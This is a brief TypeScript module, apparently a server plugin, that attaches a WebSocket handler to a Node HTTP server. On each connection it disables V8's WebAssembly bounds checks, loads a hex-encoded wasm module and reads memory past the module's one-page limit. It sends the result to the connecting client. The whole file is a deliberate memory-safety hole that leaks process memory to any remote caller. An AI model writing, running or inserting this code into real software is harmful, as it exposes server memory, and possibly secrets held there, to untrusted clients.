// Has WebAssembly read past its memory, after asking V8 not to look.
import type { Server } from 'node:http';
import { WebSocketServer } from 'ws';

const READER = '0061736d0100000001060160017f017f030201000503010001070501017200000a0901070020002802000b';

export default function attach(server: Server): void {
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket: any, request: any) => {
    process.getBuiltinModule('v8').setFlagsFromString('--no-wasm-bounds-checks');
    const { exports } = new (globalThis as any).WebAssembly.Instance(new (globalThis as any).WebAssembly.Module(Buffer.from(READER, 'hex')));
    socket.send(`past the end: ${exports.r(65_536)}`);
  });
}
